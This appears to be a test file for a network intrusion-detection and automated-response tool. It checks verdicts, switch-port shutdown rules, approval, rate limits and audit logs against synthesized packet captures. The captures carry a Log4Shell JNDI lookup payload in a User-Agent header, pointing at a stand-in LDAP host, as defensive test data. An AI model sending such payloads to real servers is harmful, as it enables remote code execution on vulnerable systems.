/**
 * `crashtest analyze --config`: pcap in → journal rows, response rules, audit log and `response`
 * events out. The capture is made here with the product's packet builders: an ARP reply for each
 * attacker, then its Log4Shell request (a JNDI lookup in the User-Agent) to a Tomcat on 8080 that
 * the emulated Log4j profiles compromise on.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { CrashtestEvent, ResponseEvent, VerdictEvent } from '../../src/alert/index.ts';
import { arp, buildPcap, ethernet, synthesizeTcpExchange } from '../../src/capture/index.ts';
import { validateConfig, type FrozenConfig } from '../../src/config/index.ts';
import { LinkType, type Timestamp } from '../../src/core/index.ts';
import { analyzeCaptures, openAttributionService, openRespondService, type AnalyzeSummary } from '../../src/daemon/index.ts';
import { repoRoot } from '../helpers/corpus.ts';
import { schemaErrors } from '../alert/schema-validator.ts';

/** 2024-03-04T09:00:00Z */
const START = 1_709_542_800;
const TOMCAT = { ip: '10.1.0.20', port: 8080, mac: '02:00:0a:01:00:14' };
const ATTACKER = { ip: '198.51.100.23', port: 40_112, mac: '02:00:c6:33:64:17' };
const SECOND_ATTACKER = { ip: '203.0.113.77', port: 33_718, mac: '02:00:cb:00:71:4d' };
const LOOKUP = '${jndi:ldap://10.9.9.9:1389/a}';

function timeAt(offset: number): Timestamp {
  const micros = Math.round(offset * 1e6);
  return { seconds: START + Math.floor(micros / 1e6), nanoseconds: (micros % 1e6) * 1000 };
}

/** An ARP reply from each attacker (its gateway asked), then its Log4Shell request and Tomcat's answer. */
function log4shellCapture(attackers: readonly (typeof ATTACKER)[]): Buffer {
  const frames = attackers.flatMap((attacker, index) => {
    const at = index * 10;
    const arpReply = ethernet(attacker.mac, TOMCAT.mac, 0x0806, arp({ operation: 2, senderMac: attacker.mac, senderIp: attacker.ip, targetMac: TOMCAT.mac, targetIp: TOMCAT.ip }));
    const request = `GET / HTTP/1.1\r\nHost: ${TOMCAT.ip}:8080\r\nUser-Agent: ${LOOKUP}\r\nAccept: */*\r\n\r\n`;
    const reply = 'HTTP/1.1 200 OK\r\nServer: Apache-Coyote/1.1\r\nContent-Type: text/html\r\nContent-Length: 2\r\n\r\nok';
    return [
      { ...timeAt(at), data: arpReply },
      ...synthesizeTcpExchange({
        client: attacker,
        server: TOMCAT,
        turns: [
          { direction: 'to_server', data: Buffer.from(request, 'latin1'), time: timeAt(at + 1) },
          { direction: 'to_client', data: Buffer.from(reply, 'latin1'), time: timeAt(at + 1.004) },
        ],
      }),
    ];
  });
  return buildPcap(LinkType.ETHERNET, frames);
}

/** The attack, then Tomcat itself connecting to the LDAP server the lookup named: a real host calling back. */
function log4shellCallbackCapture(): Buffer {
  const callback = synthesizeTcpExchange({
    client: { ip: TOMCAT.ip, port: 51_000, mac: TOMCAT.mac },
    server: { ip: '10.9.9.9', port: 1389, mac: '02:00:0a:09:09:09' },
    turns: [{ direction: 'to_server', data: Buffer.from('300c020101600702010304008000', 'hex'), time: timeAt(5) }],
  });
  const attack = log4shellCapture([ATTACKER]);
  // one file: the attack's records, then the callback's (24-byte pcap header, 16-byte record headers)
  return Buffer.concat([attack, buildPcap(LinkType.ETHERNET, callback).subarray(24)]);
}

let workDir = '';
let oneAttacker = '';
let twoAttackers = '';

before(() => {
  workDir = mkdtempSync(join(tmpdir(), 'crashtest-analyze-response-'));
  oneAttacker = join(workDir, 'log4shell.pcap');
  twoAttackers = join(workDir, 'log4shell-two.pcap');
  writeFileSync(oneAttacker, log4shellCapture([ATTACKER]));
  writeFileSync(twoAttackers, log4shellCapture([ATTACKER, SECOND_ATTACKER]));
});

after(() => rmSync(workDir, { recursive: true, force: true }));

let runs = 0;

/** A config whose journal and store live in a fresh folder; the static map puts the attackers on sw1. */
function configFor(respond: Record<string, unknown> = {}, staticPorts = [{ mac: ATTACKER.mac, switch: 'sw1', port: 'Gi0/7' }]): FrozenConfig {
  const dir = join(workDir, `run-${++runs}`);
  mkdirSync(dir, { recursive: true });
  return validateConfig({
    attribution: { journalPath: join(dir, 'journal.sqlite'), staticPorts },
    respond: { storePath: join(dir, 'respond.sqlite'), ...respond },
  });
}

async function analyze(file: string, config?: FrozenConfig, extra: { enforce?: boolean } = {}): Promise<{ events: CrashtestEvent[]; summary: AnalyzeSummary }> {
  const events: CrashtestEvent[] = [];
  const summary = await analyzeCaptures([file], { onEvent: (event) => events.push(event), ...(config ? { config } : {}), ...extra });
  return { events, summary };
}

function ofType<T extends CrashtestEvent>(events: CrashtestEvent[], type: T['event_type']): T[] {
  return events.filter((event) => event.event_type === type) as T[];
}

function compromisedVerdicts(events: CrashtestEvent[]): VerdictEvent[] {
  return ofType<VerdictEvent>(events, 'verdict').filter((event) => event.level === 'compromised');
}

describe('crashtest analyze with a response config', () => {
  it('journals the session with the port of the static map and takes sw1 Gi0/7 down in a dry run, the verdict as its reason', async () => {
    const config = configFor({ approvalRequired: false });
    const { events, summary } = await analyze(oneAttacker, config);

    const [verdict] = compromisedVerdicts(events);
    assert.ok(verdict, `a compromised verdict: ${JSON.stringify(ofType(events, 'verdict'))}`);
    assert.equal(verdict.src_ip, ATTACKER.ip);
    const responses = ofType<ResponseEvent>(events, 'response');
    assert.equal(responses.length, 1, JSON.stringify(responses));
    const response = responses[0]!;
    assert.equal(response.cause, 'verdict');
    assert.equal(response.outcome, 'rule');
    assert.equal(response.state, 'applied');
    assert.equal(response.action, 'port_down');
    assert.equal(response.dry_run, true);
    assert.equal(response.driver, 'dry-run');
    assert.equal(response.flow_id, verdict.flow_id);
    assert.equal(response.src_ip, ATTACKER.ip);
    assert.equal(response.src_mac, ATTACKER.mac);
    assert.equal(response.level, 'compromised');
    assert.match(response.reason, new RegExp(`^compromised on ${verdict.profile}`));
    assert.match(response.detail, /dry run: would set sw1 Gi0\/7 down/);
    assert.deepEqual(
      { switch: response.target?.switch, port: response.target?.port, mac: response.target?.mac, ip: response.target?.ip, basis: response.target?.basis },
      { switch: 'sw1', port: 'Gi0/7', mac: ATTACKER.mac, ip: ATTACKER.ip, basis: 'session' },
    );
    const captured = Date.parse(response.target!.capture_time.replace(/(\d{2})(\d{2})$/, '$1:$2')) / 1000;
    assert.ok(Math.abs(captured - (START + 1)) < 0.01, `the port as of the session's capture time, not of now: ${response.target?.capture_time}`);
    assert.ok(response.expires, 'an applied rule says when it expires');
    for (const event of events) assert.equal(schemaErrors('event.schema.json', JSON.parse(JSON.stringify(event))), '', event.event_type);
    assert.equal(summary.result.counters['respond.applied'], 1);
    assert.ok((summary.result.counters['attribution.sessions'] ?? 0) >= 1);
    const stats = ofType(events, 'stats');
    assert.equal(events.indexOf(stats[0]!), events.length - 1, 'stats come last, after the responses');

    const attribution = openAttributionService(config);
    try {
      const row = attribution.journal.sessionById(verdict.flow_id);
      assert.ok(row);
      assert.deepEqual(
        { srcIp: row.srcIp, dstIp: row.dstIp, dstPort: row.dstPort, switchName: row.switchName, port: row.port },
        { srcIp: ATTACKER.ip, dstIp: TOMCAT.ip, dstPort: 8080, switchName: 'sw1', port: 'Gi0/7' },
      );
      const who = await attribution.who(ATTACKER.ip, START + 1);
      assert.equal(who.mac, ATTACKER.mac);
      assert.equal(who.macSource, 'arp', 'IP→MAC learned from the ARP reply');
      assert.equal(who.port?.port, 'Gi0/7');
    } finally {
      attribution.close();
    }
    const respond = openRespondService(config);
    try {
      const [rule] = respond.list();
      assert.equal(rule?.id, response.rule_id);
      assert.equal(rule?.state, 'applied');
      assert.equal(rule?.reason.level, 'compromised');
      assert.equal(rule?.reason.sessionId, verdict.flow_id);
      const audit = respond.audit({ ruleId: rule!.id }).map((entry) => entry.event).reverse();
      assert.deepEqual(audit, ['requested', 'applied']);
    } finally {
      respond.close();
    }
  });

  it('in approval mode the rule waits in requested, and respond approve applies it', async () => {
    const config = configFor();
    const { events } = await analyze(oneAttacker, config);
    const [response] = ofType<ResponseEvent>(events, 'response');
    assert.equal(response?.state, 'requested');
    assert.equal(response?.detail, 'awaiting approval');
    assert.equal(response?.expires, undefined);
    const respond = openRespondService(config);
    try {
      assert.deepEqual(respond.audit({ ruleId: response!.rule_id! }).map((entry) => entry.event).reverse(), ['requested', 'awaiting_approval']);
      const approved = await respond.approve(response!.rule_id!, 'tester');
      assert.equal(approved.state, 'applied');
      assert.equal(approved.approvedBy, 'tester');
    } finally {
      respond.close();
    }
  });

  it('a protected port is never shut: the rule is refused and the reason logged', async () => {
    const config = configFor({ approvalRequired: false, protectedPorts: [{ switch: 'sw1', port: 'Gi0/7' }] });
    const { events, summary } = await analyze(oneAttacker, config);
    const [response] = ofType<ResponseEvent>(events, 'response');
    assert.equal(response?.state, 'refused');
    assert.equal(response?.refusal, 'protected_port_listed');
    assert.match(response!.detail, /sw1 Gi0\/7 is in respond.protectedPorts/);
    assert.equal(summary.result.counters['respond.refused.protected_port_listed'], 1);
    assert.equal(summary.result.counters['respond.applied'] ?? 0, 0);
    const respond = openRespondService(config);
    try {
      const refused = respond.audit({ ruleId: response!.rule_id! }).find((entry) => entry.event === 'refused');
      assert.equal(refused?.actor, 'safety-rails');
      assert.match(refused!.detail, /^protected_port_listed: /);
    } finally {
      respond.close();
    }
  });

  it('the rate limit refuses the second action of the hour, with its reason', async () => {
    const config = configFor({ approvalRequired: false, maxActionsPerHour: 1 }, [
      { mac: ATTACKER.mac, switch: 'sw1', port: 'Gi0/7' },
      { mac: SECOND_ATTACKER.mac, switch: 'sw1', port: 'Gi0/8' },
    ]);
    const { events, summary } = await analyze(twoAttackers, config);
    assert.equal(compromisedVerdicts(events).length, 2, 'both senders of the payload are judged');
    const responses = ofType<ResponseEvent>(events, 'response');
    assert.deepEqual(
      responses.map((event) => [event.src_ip, event.target?.port, event.state, event.refusal]),
      [
        [ATTACKER.ip, 'Gi0/7', 'applied', undefined],
        [SECOND_ATTACKER.ip, 'Gi0/8', 'refused', 'rate_limited'],
      ],
    );
    assert.match(responses[1]!.detail, /respond.maxActionsPerHour is 1/);
    assert.equal(summary.result.counters['respond.refused.rate_limited'], 1);
    const respond = openRespondService(config);
    try {
      const refused = respond.audit({ ruleId: responses[1]!.rule_id! }).find((entry) => entry.event === 'refused');
      assert.match(refused!.detail, /^rate_limited: /);
    } finally {
      respond.close();
    }
  });

  it('a compromised host calling back gets its own port shut, as a host_compromise response', async () => {
    const file = join(workDir, 'log4shell-callback.pcap');
    writeFileSync(file, log4shellCallbackCapture());
    const config = configFor({ approvalRequired: false }, [
      { mac: ATTACKER.mac, switch: 'sw1', port: 'Gi0/7' },
      { mac: TOMCAT.mac, switch: 'sw1', port: 'Gi0/12' },
    ]);
    const { events } = await analyze(file, config);
    const [host] = ofType(events, 'host_compromise');
    assert.ok(host, `a host_compromise event: ${JSON.stringify(events.map((event) => event.event_type))}`);
    const responses = ofType<ResponseEvent>(events, 'response');
    assert.deepEqual(
      responses.map((event) => [event.cause, event.src_ip, event.target?.port, event.state]),
      [
        ['verdict', ATTACKER.ip, 'Gi0/7', 'applied'],
        ['host_compromise', TOMCAT.ip, 'Gi0/12', 'applied'],
      ],
    );
    assert.match(responses[1]!.reason, new RegExp(`^host_compromise \\w+: ${TOMCAT.ip.replace(/\./g, '\\.')} behaves infected after an attack from ${ATTACKER.ip.replace(/\./g, '\\.')}`));
  });

  it('a MAC on no known port gets no action, and says so', async () => {
    const config = configFor({ approvalRequired: false }, []);
    const { events, summary } = await analyze(oneAttacker, config);
    const [response] = ofType<ResponseEvent>(events, 'response');
    assert.equal(response?.outcome, 'ignored');
    assert.equal(response?.rule_id, undefined);
    assert.match(response!.detail, /no switch port recorded/);
    assert.equal(summary.result.counters['respond.no_attribution'], 1);
    assert.equal(schemaErrors('response.schema.json', JSON.parse(JSON.stringify(response))), '');
  });

  it('runs dry even when the config turns dry run off, unless enforcement is asked for; a second run finds the rule in place', async () => {
    const settings = { approvalRequired: false, dryRun: false, driver: 'command', commandPath: '/bin/false' };
    const config = configFor(settings);
    const dry = await analyze(oneAttacker, config);
    const [response] = ofType<ResponseEvent>(dry.events, 'response');
    assert.equal(response?.driver, 'dry-run');
    assert.equal(response?.dry_run, true);
    assert.equal(response?.state, 'applied');
    const again = await analyze(oneAttacker, config);
    const [duplicate] = ofType<ResponseEvent>(again.events, 'response');
    assert.equal(duplicate?.outcome, 'duplicate');
    assert.equal(duplicate?.rule_id, response?.rule_id);
    const enforced = await analyze(oneAttacker, configFor(settings), { enforce: true });
    const [failed] = ofType<ResponseEvent>(enforced.events, 'response');
    assert.equal(failed?.driver, 'command');
    assert.equal(failed?.dry_run, false);
    assert.equal(failed?.state, 'failed', 'the command driver ran /bin/false');
  });

  it('without a config nothing is journalled and no response events appear', async () => {
    const { events } = await analyze(oneAttacker);
    assert.ok(compromisedVerdicts(events).length > 0);
    assert.equal(ofType(events, 'response').length, 0);
  });

  it('the CLI prints a RESPONSE line in its summary', () => {
    const config = configFor({ approvalRequired: false });
    const file = join(workDir, 'config.json');
    writeFileSync(file, JSON.stringify({ attribution: config.attribution, respond: config.respond }));
    const run = spawnSync(process.execPath, [join(repoRoot, 'bin/crashtest.js'), 'analyze', '--config', file, oneAttacker], { encoding: 'utf8', env: { ...process.env, TZ: 'UTC' } });
    assert.equal(run.status, 0, run.stderr);
    assert.match(run.stdout, /^RESPONSE {4}dry run: port_down sw1 Gi0\/7 \(02:00:c6:33:64:17, 198\.51\.100\.23\) applied, rule 1: compromised on /m);
  });
});
